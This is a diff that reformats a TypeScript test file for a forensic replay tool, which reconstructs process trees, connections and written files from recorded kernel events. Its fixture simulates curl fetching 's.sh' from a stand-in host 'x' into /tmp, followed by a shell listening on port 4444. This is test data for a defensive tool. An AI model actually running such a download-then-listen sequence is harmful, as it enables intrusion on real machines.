@@ -4,7 +4,13 @@ import { test } from "node:test";
 import assert from "node:assert/strict";
 import { join } from "node:path";
 import { EV, SOCK_STATE, TASK } from "../../src/events/layouts.js";
-import { matchProcesses, parseProcessSelector, processDetail, processDetailJson, matchesJson } from "../../src/replay/focus.js";
+import {
+  matchProcesses,
+  parseProcessSelector,
+  processDetail,
+  processDetailJson,
+  matchesJson,
+} from "../../src/replay/focus.js";
 import { loadSessions } from "../../src/replay/load.js";
 import { render } from "../../src/replay/render.js";
 import { stateAt, stateJson } from "../../src/replay/state.js";
@@ -22,8 +28,32 @@ const dl: E.Ident = { tgid: 200, start: 10n * S, ppid: 100, comm: "bash" };
 const dl2: E.Ident = { tgid: 200, start: 20n * S, ppid: 100, comm: "bash" }; // pid 200 reused
 const kid: E.Ident = { tgid: 300, start: 11n * S, ppid: 200, comm: "sh" };
 
-function state(t: bigint, id: E.Ident, sock: bigint, oldstate: number, newstate: number, local: [string, number], remote: [string, number]) {
-  return E.rec(SOCK_STATE, EV.sockState, t, { ...id, flags: 1 }, { sock_id: sock, oldstate, newstate, family: 2, protocol: 6, saddr: E.ip4(local[0]), sport: local[1], daddr: E.ip4(remote[0]), dport: remote[1] });
+function state(
+  t: bigint,
+  id: E.Ident,
+  sock: bigint,
+  oldstate: number,
+  newstate: number,
+  local: [string, number],
+  remote: [string, number],
+) {
+  return E.rec(
+    SOCK_STATE,
+    EV.sockState,
+    t,
+    { ...id, flags: 1 },
+    {
+      sock_id: sock,
+      oldstate,
+      newstate,
+      family: 2,
+      protocol: 6,
+      saddr: E.ip4(local[0]),
+      sport: local[1],
+      daddr: E.ip4(remote[0]),
+      dport: remote[1],
+    },
+  );
 }
 
 async function session() {
@@ -33,10 +63,19 @@ async function session() {
     const path = join(dir, "s.sealed");
     const records = [
       { k: "attach", t: 9n * S, startT: 9n * S, attachMs: 1, bundles: [] },
-      { k: "start", b: "exec", it: "exec_snapshot", t: 9n * S, d: E.frame([
-        E.task(9n * S, init, "/sbin/init", ["init"]), E.rec(TASK, EV.task, 9n * S, kthreadd), E.rec(TASK, EV.task, 9n * S, kworker),
-        E.task(9n * S, cron, "/usr/sbin/cron", ["cron", "-f"]), E.task(9n * S, shell, "/bin/bash", ["bash"]),
-      ]) },
+      {
+        k: "start",
+        b: "exec",
+        it: "exec_snapshot",
+        t: 9n * S,
+        d: E.frame([
+          E.task(9n * S, init, "/sbin/init", ["init"]),
+          E.rec(TASK, EV.task, 9n * S, kthreadd),
+          E.rec(TASK, EV.task, 9n * S, kworker),
+          E.task(9n * S, cron, "/usr/sbin/cron", ["cron", "-f"]),
+          E.task(9n * S, shell, "/bin/bash", ["bash"]),
+        ]),
+      },
       E.ring("exec", 12n * S, [
         E.fork(10n * S, shell, 200, 10n * S),
         E.exec(10n * S + 1000n, { ...dl, comm: "curl" }, "/usr/bin/curl", ["curl", "-o", "s.sh", "http://x/s.sh"]),
@@ -52,10 +91,28 @@ async function session() {
         state(11n * S + 600n, kid, 0x52n, 7, 10, ["0.0.0.0", 4444], ["0.0.0.0", 0]),
       ]),
       E.ring("filewrite", 14n * S, [E.fileOpen(10n * S + 5000n, { ...dl, comm: "curl" }, 8n, 77n, "/tmp/s.sh")]),
-      { k: "maps", b: "filewrite", m: "write_totals", t: 14n * S, keySize: 32, valueSize: 32, n: 1, d: E.writeRow(dl, 8n, 77n, 4096n, 4n, 11n * S, 13n * S) },
-      E.ring("exec", 22n * S, [E.fork(20n * S, shell, 200, 20n * S), E.exec(20n * S + 5n, { ...dl2, comm: "true" }, "/bin/true", ["true"]), E.exit(21n * S, { ...dl2, comm: "true" }, 0)]),
+      {
+        k: "maps",
+        b: "filewrite",
+        m: "write_totals",
+        t: 14n * S,
+        keySize: 32,
+        valueSize: 32,
+        n: 1,
+        d: E.writeRow(dl, 8n, 77n, 4096n, 4n, 11n * S, 13n * S),
+      },
+      E.ring("exec", 22n * S, [
+        E.fork(20n * S, shell, 200, 20n * S),
+        E.exec(20n * S + 5n, { ...dl2, comm: "true" }, "/bin/true", ["true"]),
+        E.exit(21n * S, { ...dl2, comm: "true" }, 0),
+      ]),
     ];
-    await writeSession(path, [records], { recipients: [key.recipient], metadata: E.metadata() }, { endReason: "duration", startBootNs: 9n * S, endBootNs: 30n * S });
+    await writeSession(
+      path,
+      [records],
+      { recipients: [key.recipient], metadata: E.metadata() },
+      { endReason: "duration", startBootNs: 9n * S, endBootNs: 30n * S },
+    );
     return (await loadSessions([path], [key.identity])).replay;
   } finally {
     cleanup();
@@ -64,9 +121,18 @@ async function session() {
 
 test("--pid selectors: N, N@START and the process id; anything else is one usage error", () => {
   assert.deepEqual(parseProcessSelector("200"), { pid: 200, startIso: undefined, id: undefined });
-  assert.deepEqual(parseProcessSelector("200@2026-11-24T03:16:27.984329Z"), { pid: 200, startIso: "2026-11-24T03:16:27.984329Z", id: undefined });
-  assert.deepEqual(parseProcessSelector("b00710d0:200:10000000000"), { pid: 200, startIso: undefined, id: "b00710d0:200:10000000000" });
-  for (const bad of ["", "x", "200@yesterday", "-1", "200@2026-11-24"]) assert.throws(() => parseProcessSelector(bad), /--pid .*: give a pid/);
+  assert.deepEqual(parseProcessSelector("200@2026-11-24T03:16:27.984329Z"), {
+    pid: 200,
+    startIso: "2026-11-24T03:16:27.984329Z",
+    id: undefined,
+  });
+  assert.deepEqual(parseProcessSelector("b00710d0:200:10000000000"), {
+    pid: 200,
+    startIso: undefined,
+    id: "b00710d0:200:10000000000",
+  });
+  for (const bad of ["", "x", "200@yesterday", "-1", "200@2026-11-24"])
+    assert.throws(() => parseProcessSelector(bad), /--pid .*: give a pid/);
 });
 
 test("a pid reused names two processes, listed with what picks each; N@START picks one", async () => {
@@ -74,13 +140,22 @@ test("a pid reused names two processes, listed with what picks each; N@START pic
   const both = matchProcesses(r, parseProcessSelector("200"));
   assert.equal(both.length, 2);
   const doc = matchesJson("200", both);
-  assert.deepEqual(doc.matches.map((m) => m.pick), both.map((p) => `200@${isoFromNs(p.startNs)}`));
+  assert.deepEqual(
+    doc.matches.map((m) => m.pick),
+    both.map((p) => `200@${isoFromNs(p.startNs)}`),
+  );
   const text = render(r, "process", "text", false, { focus: { kind: "matches", selector: "200", matches: both } });
   assert.match(text, /--pid 200 names 2 processes/);
   for (const m of doc.matches) assert.ok(text.includes(`--pid ${m.pick}`), text);
   const one = matchProcesses(r, parseProcessSelector(doc.matches[0]!.pick));
-  assert.deepEqual(one.map((p) => p.id), [both[0]!.id]);
-  assert.deepEqual(matchProcesses(r, parseProcessSelector(both[1]!.id)).map((p) => p.id), [both[1]!.id]);
+  assert.deepEqual(
+    one.map((p) => p.id),
+    [both[0]!.id],
+  );
+  assert.deepEqual(
+    matchProcesses(r, parseProcessSelector(both[1]!.id)).map((p) => p.id),
+    [both[1]!.id],
+  );
   // The start second alone is enough when it is unambiguous.
   assert.equal(matchProcesses(r, parseProcessSelector(`200@${isoFromNs(both[1]!.startNs).slice(0, 19)}Z`)).length, 1);
 });
@@ -89,22 +164,58 @@ test("the process view: identity, parents to the root, execs with argv, children
   const r = await session();
   const p = matchProcesses(r, parseProcessSelector("200"))[0]!;
   const d = processDetail(r, p);
-  assert.deepEqual(d.parents.map((q) => q.pid), [100, 1], "bash, then init, the root");
-  assert.deepEqual(d.children.map((q) => q.pid), [300]);
-  assert.deepEqual(d.connections.map((c) => [c.dport, c.outcome]), [[80, "established"]]);
-  assert.deepEqual(d.files.map((f) => [f.path, f.bytes]), [["/tmp/s.sh", 4096n]]);
+  assert.deepEqual(
+    d.parents.map((q) => q.pid),
+    [100, 1],
+    "bash, then init, the root",
+  );
+  assert.deepEqual(
+    d.children.map((q) => q.pid),
+    [300],
+  );
+  assert.deepEqual(
+    d.connections.map((c) => [c.dport, c.outcome]),
+    [[80, "established"]],
+  );
+  assert.deepEqual(
+    d.files.map((f) => [f.path, f.bytes]),
+    [["/tmp/s.sh", 4096n]],
+  );
   const doc = processDetailJson(d);
-  assert.deepEqual(doc.process.execs.map((e) => e.argv), [["curl", "-o", "s.sh", "http://x/s.sh"]]);
+  assert.deepEqual(
+    doc.process.execs.map((e) => e.argv),
+    [["curl", "-o", "s.sh", "http://x/s.sh"]],
+  );
   assert.equal(doc.process.exitCode, 0);
-  assert.deepEqual(doc.parents.map((q) => q.pid), [100, 1]);
+  assert.deepEqual(
+    doc.parents.map((q) => q.pid),
+    [100, 1],
+  );
   assert.equal(doc.children[0]!.exitCode, 7);
-  assert.equal(doc.children[0]!.reparented, true, "re-parented to init before its exit, still listed under its first parent");
+  assert.equal(
+    doc.children[0]!.reparented,
+    true,
+    "re-parented to init before its exit, still listed under its first parent",
+  );
   const text = render(r, "process", "text", false, { focus: { kind: "process", detail: d } });
-  for (const want of [/^curl \[200\] on testhost/m, /^  id +b00710d0:200:10000000000$/m, /^ +bash \[100\]/m, /^ +init \[1\]/m, /argv curl -o s\.sh http:\/\/x\/s\.sh/, /sh \[300\] exit 7 \(re-parented\)/, /out tcp 192\.0\.2\.8:80 established/, /\/tmp\/s\.sh 4096B\/4w/, /exit 0 at /]) {
+  for (const want of [
+    /^curl \[200\] on testhost/m,
+    /^  id +b00710d0:200:10000000000$/m,
+    /^ +bash \[100\]/m,
+    /^ +init \[1\]/m,
+    /argv curl -o s\.sh http:\/\/x\/s\.sh/,
+    /sh \[300\] exit 7 \(re-parented\)/,
+    /out tcp 192\.0\.2\.8:80 established/,
+    /\/tmp\/s\.sh 4096B\/4w/,
+    /exit 0 at /,
+  ]) {
     assert.match(text, want);
   }
   assert.match(render(r, "process", "json", false, { focus: { kind: "process", detail: d } }), /"parents": \[/);
-  assert.throws(() => render(r, "process", "html", false, { focus: { kind: "process", detail: d } }), /--format html: --view process and --at give text or json/);
+  assert.throws(
+    () => render(r, "process", "html", false, { focus: { kind: "process", detail: d } }),
+    /--format html: --view process and --at give text or json/,
+  );
 });
 
 test("--at: processes alive with their image then, connections open, listeners, files being written", async () => {
@@ -113,14 +224,36 @@ test("--at: processes alive with their image then, connections open, listeners, 
   const s = stateAt(r, at);
   assert.ok(s.inside);
   const alive = s.processes.map(({ process, image }) => [process.pid, image?.filename ?? null]);
-  assert.deepEqual(alive.filter(([pid]) => pid === 200 || pid === 300), [[200, "/usr/bin/curl"], [300, "/bin/sh"]]);
-  assert.ok(alive.some(([pid]) => pid === 50), "kernel threads are alive too (JSON keeps them)");
-  assert.deepEqual(s.connections.map((c) => [c.pid, c.dport]), [[200, 80]]);
-  assert.deepEqual(s.listening.map((c) => [c.pid, c.sport]), [[300, 4444]]);
-  assert.deepEqual(s.files.map((f) => f.path), ["/tmp/s.sh"]);
+  assert.deepEqual(
+    alive.filter(([pid]) => pid === 200 || pid === 300),
+    [
+      [200, "/usr/bin/curl"],
+      [300, "/bin/sh"],
+    ],
+  );
+  assert.ok(
+    alive.some(([pid]) => pid === 50),
+    "kernel threads are alive too (JSON keeps them)",
+  );
+  assert.deepEqual(
+    s.connections.map((c) => [c.pid, c.dport]),
+    [[200, 80]],
+  );
+  assert.deepEqual(
+    s.listening.map((c) => [c.pid, c.sport]),
+    [[300, 4444]],
+  );
+  assert.deepEqual(
+    s.files.map((f) => f.path),
+    ["/tmp/s.sh"],
+  );
   const doc = stateJson(s);
   assert.equal(doc.processes.find((p) => p.pid === 200)?.image?.argv[0], "curl");
-  assert.deepEqual([doc.processes.find((p) => p.pid === 300)?.ppidThen, doc.processes.find((p) => p.pid === 300)?.ppid], [200, 1], "its parent then, not the one it was moved to later");
+  assert.deepEqual(
+    [doc.processes.find((p) => p.pid === 300)?.ppidThen, doc.processes.find((p) => p.pid === 300)?.ppid],
+    [200, 1],
+    "its parent then, not the one it was moved to later",
+  );
   const later = stateAt(r, E.OFFSET_NS + 16n * S);
   assert.ok(!later.processes.some(({ process }) => process.pid === 200 || process.pid === 300), "both exited by then");
   assert.deepEqual([later.connections.length, later.files.length], [0, 0]);
@@ -145,5 +278,8 @@ test("the text tree folds kernel threads and idle snapshot processes into one li
   const full = render(r, "tree", "text", false, { all: true });
   for (const name of ["kworker/0:1", "kthreadd", "cron"]) assert.ok(full.includes(name), name);
   const json = JSON.parse(render(r, "tree", "json", false)) as { processes: Array<{ pid: number }> };
-  assert.deepEqual([2, 50, 90].map((pid) => json.processes.some((p) => p.pid === pid)), [true, true, true]);
+  assert.deepEqual(
+    [2, 50, 90].map((pid) => json.processes.some((p) => p.pid === pid)),
+    [true, true, true],
+  );
 });
